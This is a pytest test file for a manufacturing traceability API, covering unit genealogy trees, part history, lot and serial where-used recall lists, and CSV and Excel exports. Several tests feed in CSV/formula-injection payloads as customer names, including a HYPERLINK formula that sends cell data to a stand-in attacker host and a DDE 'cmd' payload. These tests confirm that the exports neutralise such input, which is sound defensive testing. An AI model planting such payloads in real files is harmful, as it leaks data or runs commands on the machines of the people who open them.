"""Trace through HTTP: a unit's tree and history, and where a lot or part went (recall lists)."""

import csv
import io
import uuid
from typing import Any

import openpyxl
import pytest
from fastapi.testclient import TestClient
from sqlalchemy.engine import Engine

from tests.factories import Plant, accept, build_bike, build_pack, make_plant, token_for
from tracemes import services
from tracemes.domain.genealogy import BindPart, ComponentRef
from tracemes.domain.step_runs import StartStep
from tracemes.services.context import Context

from ..conftest import NOW

XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
OPERATOR = "li.wei"
BOUND_AT = NOW.isoformat().replace("+00:00", "Z")  # the app's fixed clock, as answered


def an_event(type_: str, unit: str, **fields: Any) -> dict[str, Any]:
    """An event body with a fresh client id."""
    return {"id": str(uuid.uuid4()), "type": type_, "unit": unit, **fields}


def accept_all(client: TestClient, *events: dict[str, Any]) -> None:
    """Post a batch that must be accepted whole."""
    response = client.post("/api/v1/events/batch", json={"events": list(events)})
    assert response.status_code == 200, response.text
    refused = [r for r in response.json()["results"] if r["status"] != "accepted"]
    assert refused == []


def at_station(station: str, *events: dict[str, Any]) -> list[dict[str, Any]]:
    """The events as done at a station by the operator."""
    return [{**event, "station": station, "operator": OPERATOR} for event in events]


def build_pack_over_http(client: TestClient, pack: str) -> None:
    """Four cells of lot C-1 into a pack at L1-S1."""
    accept_all(
        client,
        *at_station(
            "L1-S1",
            an_event("step.started", pack, operation="P10"),
            an_event("part.bound", pack, component={"item": "CELL", "lot": "C-1"}),
            an_event("step.completed", pack, operation="P10", result="pass"),
        ),
    )


def build_bike_over_http(client: TestClient, bike: str, pack: str, n: int) -> None:
    """A bike through OP10 at L1-S1, then OP20 and OP30 at L1-S2, with a frame, motor,
    screws and the pack."""
    accept_all(
        client,
        *at_station(
            "L1-S1",
            an_event("step.started", bike, operation="OP10"),
            an_event("part.bound", bike, component={"item": "FRAME", "serial": f"F-{n}"}),
            an_event("step.completed", bike, operation="OP10", result="pass"),
        ),
        *at_station(
            "L1-S2",
            an_event("step.started", bike, operation="OP20"),
            an_event("part.bound", bike, component={"item": "MOTOR", "serial": f"M-{n}"}),
            an_event("part.bound", bike, component={"item": "SCREW", "lot": "S-1"}),
            an_event(
                "step.completed",
                bike,
                operation="OP20",
                result="pass",
                measurements={"torque_nm": 4.2},
            ),
            an_event("step.started", bike, operation="OP30"),
            an_event("part.bound", bike, component={"serial": pack}),
            an_event("step.completed", bike, operation="OP30", result="pass"),
        ),
    )


def ship(client: TestClient, bike: str) -> None:
    accept_all(
        client, an_event("unit.shipped", bike, customer="Velo Shop", order="SO-7", delivery="DN-9")
    )


def by_serial(where_used: dict[str, Any]) -> dict[str, dict[str, Any]]:
    return {unit["serial"]: unit for unit in where_used["units"]}


@pytest.fixture
def plant(db: Engine, ctx: Context) -> Plant:
    """Two queued bikes (BK0001, BK0002), two queued packs (PK0001, PK0002) and an operator."""
    made = make_plant(db, ctx, bikes=2, packs=2)
    services.users.create(db, ctx, OPERATOR, "operator")
    return made


@pytest.fixture
def recall(db: Engine, ctx: Context, plant: Plant) -> Plant:
    """Both packs of cell lot C-1: BK0001 complete with PK0001, BK0002 in work with PK0002."""
    (bike, other_bike), (pack, other_pack) = plant.bikes, plant.packs
    build_pack(db, ctx, pack)
    build_pack(db, ctx, other_pack)
    build_bike(db, ctx, bike, pack, 1)
    accept(
        db,
        ctx,
        StartStep(other_bike, "OP10"),
        BindPart(other_bike, ComponentRef(serial="F-2", item="FRAME")),
    )
    return plant


# -- backward ---------------------------------------------------------------------------------


def test_a_unit_trace_shows_its_tree_down_to_the_cell_lot_with_who_where_and_when(
    client: TestClient, plant: Plant
) -> None:
    bike, pack = plant.bikes[0], plant.packs[0]
    build_pack_over_http(client, pack)
    build_bike_over_http(client, bike, pack, 1)

    response = client.get(f"/api/v1/trace/units/{bike}")

    assert response.status_code == 200, response.text
    trace = response.json()
    assert {k: trace["unit"][k] for k in ("serial", "item", "status", "work_order")} == {
        "serial": bike,
        "item": "BIKE",
        "status": "completed",
        "work_order": "WO-BIKE",
    }
    parts = {part["item"]: part for part in trace["parts"]}
    assert set(parts) == {"FRAME", "MOTOR", "SCREW", "PACK"}
    seen = {
        item: (p["serial"], p["lot"], p["quantity"], p["operation"], p["station"])
        for item, p in parts.items()
    }
    assert seen == {
        "FRAME": ("F-1", None, "1", "OP10", "L1-S1"),
        "MOTOR": ("M-1", None, "1", "OP20", "L1-S2"),
        "SCREW": (None, "S-1", "4", "OP20", "L1-S2"),
        "PACK": (pack, None, "1", "OP30", "L1-S2"),
    }
    assert {(p["operator"], p["bound_at"]) for p in parts.values()} == {(OPERATOR, BOUND_AT)}
    assert parts["SCREW"]["supplier"] == "SCREW supplier"
    assert parts["PACK"]["status"] == "completed"
    cells = parts["PACK"]["parts"]
    assert [
        (c["item"], c["lot"], c["quantity"], c["supplier"], c["operation"], c["station"])
        for c in cells
    ] == [("CELL", "C-1", "4", "CELL supplier", "P10", "L1-S1")]
    assert (cells[0]["operator"], cells[0]["bound_at"], cells[0]["parts"]) == (
        OPERATOR,
        BOUND_AT,
        [],
    )


def test_a_unit_trace_lists_the_step_runs_of_the_unit_and_its_sub_assemblies(
    client: TestClient, plant: Plant
) -> None:
    bike, pack = plant.bikes[0], plant.packs[0]
    build_pack_over_http(client, pack)
    build_bike_over_http(client, bike, pack, 1)

    runs = client.get(f"/api/v1/trace/units/{bike}").json()["step_runs"]

    assert [(r["serial"], r["operation"], r["station"], r["result"]) for r in runs] == [
        (pack, "P10", "L1-S1", "pass"),
        (bike, "OP10", "L1-S1", "pass"),
        (bike, "OP20", "L1-S2", "pass"),
        (bike, "OP30", "L1-S2", "pass"),
    ]
    assert {r["operator"] for r in runs} == {OPERATOR}
    assert runs[2]["measurements"] == {"torque_nm": 4.2}
    assert (runs[3]["started_at"], runs[3]["completed_at"]) == (BOUND_AT, BOUND_AT)


def test_an_unknown_unit_has_no_trace(client: TestClient, plant: Plant) -> None:
    for path in ("/api/v1/trace/units/BK9999", "/api/v1/trace/units/BK9999/history"):
        response = client.get(path)
        assert response.status_code == 404
        assert response.json()["code"] == "not_found"


def test_the_history_keeps_an_unbound_part_and_its_replacement_in_order(
    db: Engine, ctx: Context, client: TestClient, plant: Plant
) -> None:
    bike, pack = plant.bikes[0], plant.packs[0]
    build_pack(db, ctx, pack)
    build_bike(db, ctx, bike, pack, 1)
    unbound = an_event(
        "part.unbound",
        bike,
        component={"serial": "M-1"},
        reason="noisy bearing",
        at="2026-03-17T09:00:00+00:00",
    )
    rebound = an_event(
        "part.bound",
        bike,
        component={"item": "MOTOR", "serial": "M-9"},
        at="2026-03-17T09:05:00+00:00",
    )

    accept_all(client, unbound, rebound)

    events = client.get(f"/api/v1/trace/units/{bike}/history").json()["events"]
    motors = [
        (e["type"], e["payload"]["component"].get("serial"), e["at"])
        for e in events
        if e["type"].startswith("part.")
        and e["payload"]["component"].get("serial") in ("M-1", "M-9")
    ]
    assert motors == [
        ("part.bound", "M-1", BOUND_AT),
        ("part.unbound", "M-1", "2026-03-17T09:00:00Z"),
        ("part.bound", "M-9", "2026-03-17T09:05:00Z"),
    ]
    assert [e["id"] for e in events][-2:] == [unbound["id"], rebound["id"]]
    assert events[-2]["payload"]["reason"] == "noisy bearing"
    parts = client.get(f"/api/v1/trace/units/{bike}").json()["parts"]
    assert [p["serial"] for p in parts if p["item"] == "MOTOR"] == ["M-9"]
    old_motor = client.get("/api/v1/trace/units/M-1/history").json()["events"]
    assert [e["type"] for e in old_motor] == ["part.bound", "part.unbound"]
    assert client.get("/api/v1/trace/serials/M-1/where-used").json()["units"] == []


def test_the_history_is_in_the_order_things_happened_not_the_order_they_were_sent(
    client: TestClient, plant: Plant
) -> None:
    bike = plant.bikes[0]
    late = an_event("part.bound", bike, component={"item": "FRAME", "serial": "F-1"})
    early = an_event("step.started", bike, operation="OP10", at="2026-03-16T08:00:00+00:00")

    accept_all(client, early, late)

    ids = [e["id"] for e in client.get(f"/api/v1/trace/units/{bike}/history").json()["events"]]
    assert ids.index(early["id"]) < ids.index(late["id"])


# -- forward ----------------------------------------------------------------------------------


def test_lot_where_used_lists_packs_inside_and_bikes_finished_with_counts_by_location(
    client: TestClient, recall: Plant
) -> None:
    response = client.get("/api/v1/trace/lots/CELL/C-1/where-used")

    assert response.status_code == 200, response.text
    found = response.json()
    (bike, _), (pack, other_pack) = recall.bikes, recall.packs
    units = by_serial(found)
    assert {s: (u["item"], u["depth"], u["finished"]) for s, u in units.items()} == {
        pack: ("PACK", 1, False),
        other_pack: ("PACK", 1, True),
        bike: ("BIKE", 2, True),
    }
    assert found["origin"] == "lot C-1 of CELL"
    assert found["finished"] == {"wip": 0, "in_stock": 2, "shipped": 0, "scrapped": 0}
    assert (units[bike]["status"], units[bike]["location"]) == ("completed", "in_stock")


def test_a_shipped_bike_shows_as_shipped_to_its_customer(client: TestClient, recall: Plant) -> None:
    bike = recall.bikes[0]

    ship(client, bike)

    found = client.get("/api/v1/trace/lots/CELL/C-1/where-used").json()
    shipped = by_serial(found)[bike]
    assert (shipped["status"], shipped["location"], shipped["finished"]) == (
        "shipped",
        "shipped",
        True,
    )
    assert (shipped["customer"], shipped["order"], shipped["delivery"]) == (
        "Velo Shop",
        "SO-7",
        "DN-9",
    )
    assert shipped["shipped_at"] == BOUND_AT
    assert found["finished"] == {"wip": 0, "in_stock": 1, "shipped": 1, "scrapped": 0}


def test_the_recall_list_downloads_as_csv(client: TestClient, recall: Plant) -> None:
    bike, pack = recall.bikes[0], recall.packs[0]
    ship(client, bike)

    response = client.get("/api/v1/trace/lots/CELL/C-1/where-used", params={"format": "csv"})

    assert response.status_code == 200
    assert response.headers["content-type"].startswith("text/csv")
    assert response.headers["content-disposition"] == ('attachment; filename="recall-CELL-C-1.csv"')
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert rows[0][:3] == ["层级 Level", "序列号 Serial", "物料 Item"]
    assert "客户 Customer" in rows[0]
    by_row = {row[1]: dict(zip(rows[0], row, strict=True)) for row in rows[1:]}
    assert set(by_row) == {bike, pack, recall.packs[1]}
    assert by_row[bike]["层级 Level"] == "finished"
    assert by_row[bike]["位置 Where"] == "shipped"
    assert by_row[bike]["客户 Customer"] == "Velo Shop"
    assert by_row[pack]["层级 Level"] == "sub-assembly"


def test_the_recall_list_downloads_as_an_excel_workbook(client: TestClient, recall: Plant) -> None:
    bike = recall.bikes[0]
    ship(client, bike)

    response = client.get("/api/v1/trace/lots/CELL/C-1/where-used", params={"format": "xlsx"})

    assert response.status_code == 200
    assert response.headers["content-type"] == XLSX
    assert 'filename="recall-CELL-C-1.xlsx"' in response.headers["content-disposition"]
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    rows = [list(row) for row in sheet.iter_rows(values_only=True)]
    assert rows[0][0] == "追溯来源 Traced from: lot C-1 of CELL"
    header = rows[1]
    assert header[:2] == ["层级 Level", "序列号 Serial"]
    by_row = {row[1]: dict(zip(header, row, strict=True)) for row in rows[2:]}
    assert set(by_row) == {bike, *recall.packs}
    assert (by_row[bike]["物料 Item"], by_row[bike]["位置 Where"]) == ("BIKE", "shipped")
    assert by_row[bike]["客户 Customer"] == "Velo Shop"


FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"x")'


@pytest.mark.parametrize("customer", [FORMULA, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)"])
def test_a_customer_name_that_looks_like_a_formula_stays_text_in_the_recall_csv(
    client: TestClient, recall: Plant, customer: str
) -> None:
    bike = recall.bikes[0]
    accept_all(client, an_event("unit.shipped", bike, customer=customer, order="SO-7"))

    response = client.get("/api/v1/trace/lots/CELL/C-1/where-used", params={"format": "csv"})

    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    by_row = {row[1]: dict(zip(rows[0], row, strict=True)) for row in rows[1:]}
    assert by_row[bike]["客户 Customer"] == "'" + customer  # shown as the name it is
    assert by_row[bike]["销售订单 Sales order"] == "SO-7"  # harmless cells are untouched


@pytest.mark.parametrize("cell", ["\t=1+1", "\r=1+1", "=1", "+1", "-1", "@A1"])
def test_every_cell_that_could_start_a_formula_gets_a_quote(cell: str) -> None:
    assert services.recall_lists.as_text(cell) == "'" + cell
    assert services.recall_lists.as_text("Velo Shop") == "Velo Shop"


def test_a_customer_name_that_looks_like_a_formula_is_a_string_cell_in_the_recall_workbook(
    client: TestClient, recall: Plant
) -> None:
    bike = recall.bikes[0]
    accept_all(client, an_event("unit.shipped", bike, customer=FORMULA, order="SO-7"))

    response = client.get("/api/v1/trace/lots/CELL/C-1/where-used", params={"format": "xlsx"})

    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    header = [cell.value for cell in sheet[2]]
    row = next(r for r in sheet.iter_rows(min_row=3) if r[1].value == bike)
    customer = row[header.index("客户 Customer")]
    assert (customer.value, customer.data_type) == (FORMULA, "s")  # text, not a formula


def test_an_unknown_format_is_a_validation_problem(client: TestClient, recall: Plant) -> None:
    response = client.get("/api/v1/trace/lots/CELL/C-1/where-used", params={"format": "pdf"})

    assert response.status_code == 422
    assert response.json()["code"] == "validation"


def test_an_unknown_lot_has_no_where_used(client: TestClient, plant: Plant) -> None:
    response = client.get("/api/v1/trace/lots/CELL/C-404/where-used")

    assert (response.status_code, response.json()["code"]) == (404, "not_found")


def test_serial_where_used_from_a_motor_reaches_the_bike(client: TestClient, recall: Plant) -> None:
    bike = recall.bikes[0]
    ship(client, bike)

    response = client.get("/api/v1/trace/serials/M-1/where-used")

    assert response.status_code == 200, response.text
    found = response.json()
    assert found["origin"] == "serial M-1"
    assert [(u["serial"], u["depth"], u["finished"], u["customer"]) for u in found["units"]] == [
        (bike, 1, True, "Velo Shop")
    ]
    assert found["finished"]["shipped"] == 1


def test_serial_where_used_from_a_pack_goes_up_to_the_bike(
    client: TestClient, recall: Plant
) -> None:
    found = client.get(f"/api/v1/trace/serials/{recall.packs[0]}/where-used").json()

    assert [(u["serial"], u["finished"]) for u in found["units"]] == [(recall.bikes[0], True)]


def test_a_viewer_may_read_traces(
    db: Engine, ctx: Context, app_client: TestClient, recall: Plant
) -> None:
    app_client.headers["Authorization"] = f"Bearer {token_for(db, ctx, 'viewer')}"
    bike = recall.bikes[0]

    for path in (
        f"/api/v1/trace/units/{bike}",
        f"/api/v1/trace/units/{bike}/history",
        "/api/v1/trace/lots/CELL/C-1/where-used",
        "/api/v1/trace/serials/M-1/where-used",
        "/api/v1/lots/CELL/C-1",
    ):
        assert app_client.get(path).status_code == 200, path
